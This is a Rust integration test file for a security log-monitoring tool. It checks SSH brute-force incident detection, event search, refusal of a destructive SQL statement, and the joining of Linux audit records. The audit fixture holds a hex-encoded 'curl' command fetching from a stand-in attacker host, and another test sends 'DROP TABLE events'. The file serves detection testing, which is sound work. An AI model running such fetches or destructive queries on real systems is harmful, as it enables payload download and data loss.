//! Search end to end with the real binary: send an attack to `vigil run`,
//! open its incident, fetch its events, find them again by SQL, with
//! `GET /events` and with `vigil search` (through the API and on the data
//! directory).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::run::{ssh_attack, start, write_lines};
use serde_json::{Value, json};

#[test]
fn an_attacks_incident_leads_to_its_events_and_sql_finds_them_again() {
    let v = start("search-e2e");
    let attacker = "203.0.113.77";
    let file = v.dir.join("attack.log");
    write_lines(&file, ssh_attack("web-01", attacker, 6).into_iter());
    v.send(&file, &[]);
    v.wait("six events stored", |v| v.metric("vigil_events_stored_total", &[]) >= 6);
    let mut incident = Value::Null;
    v.wait("the brute-force incident", |v| {
        let (_, list) = v.get("/incidents?rule=ssh-brute-force", &v.token);
        incident = list["items"].as_array().and_then(|i| i.first()).cloned().unwrap_or(Value::Null);
        !incident.is_null()
    });
    let id = incident["id"].as_i64().unwrap();
    let (_, record) = v.get(&format!("/incidents/{id}"), &v.token);
    let ids: Vec<u64> = record["event_ids"].as_array().unwrap().iter().map(|i| i.as_u64().unwrap()).collect();
    assert!(ids.len() >= 5, "{record}");

    // The incident's events: the attacker's failures, with the ids it lists.
    let (status, events) = v.get(&format!("/incidents/{id}/events"), &v.token);
    assert_eq!(status, 200, "{events}");
    let items = events["items"].as_array().unwrap();
    assert_eq!(items.len(), ids.len(), "{events}");
    for e in items {
        assert_eq!(e["src_ip"], attacker);
        assert_eq!(e["event_type"], "ssh.auth.failure");
        assert!(ids.contains(&e["event_id"].as_u64().unwrap()));
        assert!(e["raw"].as_str().unwrap().contains("Failed password"));
    }

    // Found again by SQL...
    let (status, answer) = v.post(
        "/search",
        &v.token,
        &json!({ "sql": format!("SELECT event_id FROM events WHERE src_ip = '{attacker}' ORDER BY event_id") }),
    );
    assert_eq!(status, 200, "{answer}");
    let found: Vec<u64> = answer["rows"].as_array().unwrap().iter().map(|r| r[0].as_u64().unwrap()).collect();
    assert_eq!(found.len(), 6, "{answer}");
    assert!(ids.iter().all(|i| found.contains(i)));
    // ...by filters...
    let (status, page) = v.get(&format!("/events?src_ip={attacker}&event_type=ssh.auth.failure"), &v.token);
    assert_eq!((status, page["items"].as_array().unwrap().len()), (200, 6), "{page}");
    let (_, histogram) = v.get(&format!("/events/histogram?src_ip={attacker}&interval=1h"), &v.token);
    let total: u64 = histogram["buckets"].as_array().unwrap().iter().map(|b| b["count"].as_u64().unwrap()).sum();
    assert_eq!(total, 6, "{histogram}");

    // ...and with `vigil search`, through the API and on the data directory.
    let sql = "SELECT count(*) AS n FROM events WHERE cidr_match(src_ip, '203.0.113.0/24')";
    let api = v.base.clone();
    let out = common::vigil_with_env(
        &["search", "--api", &api, "--sql", sql, "--format", "csv"],
        &[("VIGIL_TOKEN", v.token.as_str())],
    );
    assert!(out.status.success(), "{}", common::stderr(&out));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), "n\n6\n");
    let table = v.cli(&["search", "--src-ip", attacker]);
    assert!(table.starts_with("time"), "{table}");
    assert_eq!(table.lines().filter(|l| l.contains(attacker)).count(), 6, "{table}");
    assert!(table.contains("6 rows"), "{table}");
    let json: Value = serde_json::from_str(&v.cli(&["search", "--sql", sql, "--format", "json"])).unwrap();
    assert_eq!(json["rows"], json!([[6]]));
    // A refused statement is a clear error, exit status 2.
    let out = common::vigil_with_env(
        &["search", "--api", &api, "--sql", "DROP TABLE events"],
        &[("VIGIL_TOKEN", v.token.as_str())],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(common::stderr(&out).contains("is not allowed"), "{}", common::stderr(&out));
}

/// Linux audit records of one event sent to `vigil run` without their
/// EOE: each is stored, and the joined `audit.event` follows once its
/// window ends, with no further line to carry it (the collector's tick).
#[test]
fn audit_records_become_one_audit_event_too() {
    let v = start("search-audit-join");
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let stamp = format!("msg=audit({now}.120:88123):");
    let lines = [
        format!("type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 comm=\"curl\" exe=\"/usr/bin/curl\""),
        format!("type=EXECVE {stamp} argc=2 a0=\"curl\" a1=68747470733A2F2F6576696C2E6578616D706C652F78"),
        format!("type=PROCTITLE {stamp} proctitle=6375726C0068747470733A2F2F6576696C2E6578616D706C652F78"),
    ];
    let file = v.dir.join("audit.log");
    write_lines(&file, lines.into_iter());
    v.send(&file, &[]);
    let mut page = Value::Null;
    v.wait("the joined audit event stored", |v| {
        page = v.get("/events?event_type=audit.event", &v.token).1;
        page["items"].as_array().is_some_and(|i| !i.is_empty())
    });
    let e = &page["items"][0];
    assert!(e["raw"].as_str().unwrap().contains("SYSCALL EXECVE PROCTITLE"), "{e}");
    assert!(e.to_string().contains("https://evil.example/x"), "the decoded argument: {e}");
    let (_, records) = v.get("/events?event_type=audit.execve", &v.token);
    assert_eq!(records["items"].as_array().map(Vec::len), Some(1), "the record itself stays: {records}");
}
